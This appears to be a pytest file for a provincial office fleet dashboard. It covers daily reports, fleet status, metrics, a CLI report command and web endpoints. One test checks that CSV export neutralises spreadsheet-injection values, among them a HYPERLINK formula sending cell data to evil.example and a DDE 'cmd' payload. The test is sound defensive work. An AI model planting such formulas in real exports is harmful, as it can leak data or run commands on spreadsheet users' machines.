"""The daily report and the fleet view from the same fleet, on SQLite and on PostgreSQL; the report command."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import dashboard_fleet as F

from central import report
from central.status import fleet_view


def test_daily_report_sums_by_province(fleet_db):
    F.build(fleet_db)
    data = report.daily_report(fleet_db, F.TODAY)
    by = {p["province"]: p for p in data["provinces"]}
    assert [p["province"] for p in data["provinces"]] == ["05", "11", "23"]
    assert by["23"] == {"province": "23", "offices_known": 4, "offices_reporting": 4, "offices_not_reporting": 0,
                        "scheduled_minutes": 170 + 125 + 70 + 120 + 20 + 25 + 40 + 10,  # sent mid-day: judged so far
                        "serving_minutes": 170 + 125 + 70 + 120, "degraded_minutes": 20, "closed_minutes": 25 + 40,
                        "unknown_minutes": 10, "late_openings": 1, "late_opening_minutes": 25, "early_closings": 0}
    assert by["11"]["offices_reporting"] == 1 and by["11"]["late_openings"] == 0  # 1102's late opening was yesterday
    assert by["05"]["offices_reporting"] == 0 and by["05"]["offices_known"] == 1
    assert by["05"]["offices_not_reporting"] == 1 and by["11"]["offices_not_reporting"] == 1
    assert data["totals"]["offices_reporting"] == 5 and data["totals"]["closed_minutes"] == 65
    assert [o["device_id"] for o in data["offices"] if o["late_opening"]] == ["dev-2302"]
    only = report.daily_report(fleet_db, F.TODAY, province="11")
    assert [p["province"] for p in only["provinces"]] == ["11"]
    empty = report.daily_report(fleet_db, F.TODAY - dt.timedelta(days=7))
    assert empty["totals"]["offices_reporting"] == 0


def test_a_silent_device_is_offline_on_the_office_page_and_in_the_metrics(fleet_db):
    """Its birth says online and no will came, but nothing of it past SILENT_AFTER: offline since its last message."""
    from central.metrics import exposition
    from central.verification import SILENT_AFTER
    from central.web.present import office_page

    F.build(fleet_db)
    fleet = F.Fleet(fleet_db)
    later = F.NOW + SILENT_AFTER + dt.timedelta(minutes=1)
    page = office_page(fleet_db, "dev-2301", day=F.TODAY, now=F.NOW)["device"]
    assert (page["online"], page["silent"]) == (True, False)
    page = office_page(fleet_db, "dev-2301", day=F.TODAY, now=later)
    assert (page["device"]["online"], page["device"]["status_reason"], page["today"]["online"]) == \
        (False, "silent", False)
    assert page["device"]["status_since"] == page["device"]["last_seen"]
    assert page["today"]["gaps"] == 0  # the will its birth reserved is not counted lost: it may yet come
    now = exposition(fleet, today=lambda: F.TODAY, now=lambda: F.NOW).decode()
    assert 'pishkhan_devices_online{province="23"} 3.0' in now
    text = exposition(fleet, today=lambda: F.TODAY, now=lambda: later).decode()
    assert 'pishkhan_devices_online{province="23"} 0.0' in text
    assert 'pishkhan_devices{province="23",status="offline"} 4.0' in text


def test_fleet_view_counts(fleet_db):
    data = F.build(fleet_db)
    view = fleet_view(data["fleet"], day=F.TODAY, now=F.NOW)
    by = {p["province"]: p for p in view["provinces"]}
    assert by["23"] == {"province": "23", "total": 4, "online": 3, "offline": 1, "late": 1, "closed": 1, "outdated": 2, "board_unknown": 0}
    assert view["totals"] == {"total": 7, "online": 5, "offline": 2, "late": 1, "closed": 1, "outdated": 2, "board_unknown": 1}
    # ten minutes on, nothing more heard: the five that set a will and never lost it are silent, so offline too
    quiet = fleet_view(data["fleet"], day=F.TODAY, now=F.NOW + dt.timedelta(minutes=10))
    assert quiet["totals"]["online"] == 0 and quiet["totals"]["offline"] == 7
    assert sorted(d["device_id"] for d in quiet["devices"] if d["silent"]) == \
        ["dev-0501", "dev-1101", "dev-2301", "dev-2302", "dev-2304"]
    late = fleet_view(data["fleet"], day=F.TODAY, province="23", state="late")
    assert [d["device_id"] for d in late["devices"]] == ["dev-2302"]
    assert late["devices"][0]["late_events"][0]["minutes"] == 25
    # yesterday, 1102 was the late one
    assert [d["device_id"] for d in fleet_view(data["fleet"], day=F.TODAY - dt.timedelta(days=1),
                                                state="late")["devices"]] == ["dev-1102"]


def test_csv_has_a_row_per_province_and_a_total():
    data = {"date": "2026-12-01", "provinces": [report._empty("23") | {"serving_minutes": 100, "offices_reporting": 2}],
            "totals": {k: 0 for k in report.COLUMNS if k != "province"} | {"serving_minutes": 100}}
    rows = list(csv.DictReader(io.StringIO(report.to_csv(data))))
    assert [(r["province"], r["serving_minutes"]) for r in rows] == [("23", "100"), ("all", "100")]


def test_the_report_command_gives_the_same_in_csv_json_and_html(tmp_path, capsys):
    from central.db import open_db
    from cli.main import main

    path = tmp_path / "fleet.db"
    with open_db(str(path)) as db:
        F.build(db)
        expected = report.daily_report(db, F.TODAY)
    assert main(["central", "report", "--date", F.TODAY.isoformat(), "--format", "json", "--db", str(path)]) == 0
    assert json.loads(capsys.readouterr().out) == json.loads(json.dumps(expected))
    assert main(["central", "report", "--date", F.TODAY.isoformat(), "--format", "csv", "--db", str(path),
                 "--province", "23"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["province"] for r in rows] == ["23", "all"] and rows[0]["late_openings"] == "1"
    assert main(["central", "report", "--date", F.TODAY.isoformat(), "--format", "html", "--db", str(path)]) == 0
    html = capsys.readouterr().out
    assert '<html lang="fa" dir="rtl">' in html and html.count("<svg") == 2 and "dev-2302" in html  # province 5 sent none
    assert main(["central", "report", "--date", "01-12-2026", "--db", str(path)]) == 1
    assert "--date: expected YYYY-MM-DD" in capsys.readouterr().err


def test_the_app_answers_on_both_databases(fleet_db):
    import re

    from starlette.testclient import TestClient

    from central.users import Users
    from central.web.app import create_app

    data = F.build(fleet_db)
    Users(fleet_db).add("admin", "centre-pass-1")
    client = TestClient(create_app(data["fleet"], now=lambda: F.NOW))
    token = re.search(r'name="csrf_token" value="(\w+)"', client.get("/login").text)[1]  # the form's CSRF token
    client.post("/login", data={"username": "admin", "password": "centre-pass-1", "csrf_token": token})
    fleet = client.get("/api/fleet").json()
    assert fleet["totals"] == {"total": 7, "online": 5, "offline": 2, "late": 1, "closed": 1, "outdated": 2, "board_unknown": 1}
    assert [a["kind"] for a in fleet["alerts"]] == ["closed_during_hours", "offline", "offline", "late_opening",
                                                    "late_opening"]  # by the centre's receive time
    office = client.get("/api/device/dev-2302").json()
    assert [r["state"] for r in office["timeline"]["runs"]] == ["closed", "serving", "degraded", "serving"]
    assert client.get("/device/dev-2301/snapshot.png").content.startswith(b"\x89PNG")
    assert client.get(f"/api/verify/{data['old']['verification_code']}").json()["superseded"]
    assert 'pishkhan_devices_online{province="23"} 3.0' in client.get("/metrics").text
    csv_text = client.get(f"/report.csv?date={F.TODAY}").text
    assert csv_text.splitlines()[-1].split(",")[1:4] == ["all", "7", "5"]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """A province or office a device named ``=HYPERLINK(…)`` is text in the CSV, never a formula."""
    from central.db import open_db

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\tx", "\rx", "＝1+1"]
    with open_db(str(tmp_path / "fleet.db")) as db:
        for i, name in enumerate(hostile):
            db.execute("INSERT INTO devices(device_id, province, office_id, office_name) VALUES (?,?,?,?)",
                       (f"dev-{i}", name, name, name))
            db.execute("INSERT INTO reports(device_id, date, province, report, received_at) VALUES (?,?,?,?,?)",
                       (f"dev-{i}", "2026-12-01", name, json.dumps({"serving_minutes": 10, "office": name}),
                        "2026-12-01T08:00:00Z"))
        text = report.to_csv(report.daily_report(db, dt.date(2026, 12, 1)))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
    assert sorted(row[1] for row in rows[1:-1]) == sorted("'" + name for name in hostile)
    assert rows[-1][1:5] == ["all", str(len(hostile)), str(len(hostile)), "0"]


def test_offices_that_have_not_reported_are_shown_as_not_reported_never_as_zeros(tmp_path):
    """Province 5's only office sent no report: its row says so instead of zeros, it has no chart, and
    the CSV leaves its figures empty; the page says what it counts."""
    from central.db import open_db
    from central.web.render import report_html

    with open_db(str(tmp_path / "fleet.db")) as fleet_db:  # the page, from the report both databases give alike
        F.build(fleet_db)
        data = report.daily_report(fleet_db, F.TODAY)
    html = report_html(data)
    row = html.split('<tr data-province="05"', 1)[1].split("</tr>", 1)[0]
    assert 'data-col="not-reported"' in row and "گزارش نداده" in row
    assert 'data-col="serving_minutes"' not in row and 'data-col="late_openings"' not in row
    assert '<div class="chart" data-province="05"' not in html and html.count("<svg") == 2
    assert "۵ دفتر از ۷ دفتر" in html  # what the report counts: the reports that came
    rows = {r["province"]: r for r in csv.DictReader(io.StringIO(report.to_csv(data)))}
    assert rows["05"]["offices_not_reporting"] == "1" and rows["05"]["serving_minutes"] == ""
    assert rows["05"]["late_openings"] == "" and rows["23"]["late_openings"] == "1"


def test_a_day_without_reports_is_not_a_table_of_zeros(tmp_path):
    from central.db import open_db
    from central.web.render import report_html

    with open_db(str(tmp_path / "fleet.db")) as fleet_db:
        F.build(fleet_db)
        html = report_html(report.daily_report(fleet_db, F.TODAY - dt.timedelta(days=7)))
    assert 'id="no-reports"' in html and "<svg" not in html and 'class="report' not in html
    assert "۷ دفتر ثبت‌شده" in html


def test_a_report_sent_before_its_day_ended_is_scheduled_only_for_the_minutes_it_judged(tmp_path):
    """Sent at noon: 480 minutes announced, 120 judged (all open). The day so far is 100 % open, not 25 %: the
    afternoon has not happened. The same report marked complete counts its whole day."""
    from central import history
    from central.db import open_db

    db = open_db(str(tmp_path / "fleet.db"))
    for n, (complete, scheduled, share) in enumerate(((False, 120, 100.0), (True, 480, 25.0))):
        db.execute("INSERT INTO devices(device_id, province, office_id, office_name) VALUES (?, '23', ?, 'x')",
                   (f"dev-{n}", f"23-{n}"))
        day = dt.date(2026, 11, 5) + dt.timedelta(days=n)
        sent = {"date": day.isoformat(), "complete": complete, "scheduled_minutes": 480, "serving_minutes": 100,
                "degraded_minutes": 20, "closed_minutes": 0, "unknown_minutes": 0}
        db.execute("INSERT INTO reports(device_id, date, province, report, received_at) VALUES (?, ?, '23', ?, "
                   "?)", (f"dev-{n}", day.isoformat(), json.dumps(sent), f"{day.isoformat()}T08:30:00Z"))
        assert report.daily_report(db, day)["totals"]["scheduled_minutes"] == scheduled
        assert history.day_figures(sent, tally=history.stored.Tally(), province="23")["scheduled_minutes"] == scheduled
        assert history.trend(db, history.Period(day, day), province="23")["totals"]["open_percent"] == share
    db.close()
